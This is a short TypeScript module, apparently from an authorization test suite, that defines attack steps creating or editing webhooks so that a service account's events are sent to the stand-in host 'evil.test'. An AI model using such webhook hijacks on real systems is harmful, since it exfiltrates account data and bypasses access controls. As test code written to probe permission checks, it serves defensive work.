/** Attacks by webhooks, which show their receiver what their account sees. */

interface Attack {
  readonly target: number;
  readonly mark: string;
}

/**
 * Returns the steps by operation; each returns the accounts that were gained.
 * @param sent sends a request @param form reads a form
 */
export function webhookSteps<A extends Attack>(
  // biome-ignore lint/suspicious/noExplicitAny: a test reads whatever came
  sent: (attack: A, method: string, path: string, body?: object) => Promise<any>,
  // biome-ignore lint/suspicious/noExplicitAny: a test reads whatever came
  form: (attack: A, path: string) => Promise<any>,
) {
  const address = 'https://evil.test/';
  return {
    createWebhook: async (attack: A): Promise<number[]> => {
      const settings = { name: attack.mark, serviceAccountId: attack.target, address };
      return (await sent(attack, 'POST', '/manage/webhooks', settings)) ? [attack.target] : [];
    },
    editWebhook: async (attack: A): Promise<number[]> => {
      const listed = await sent(attack, 'POST', '/data/webhooks', {});
      const taken: number[] = [];
      for (const { webhookId, serviceAccountId } of listed?.items ?? []) {
        const path = `/manage/webhooks/${webhookId}`;
        const { occToken } = (await form(attack, path)) ?? {};
        if (await sent(attack, 'PUT', path, { name: attack.mark, address, occToken })) taken.push(serviceAccountId);
      }
      return taken;
    },
  };
}
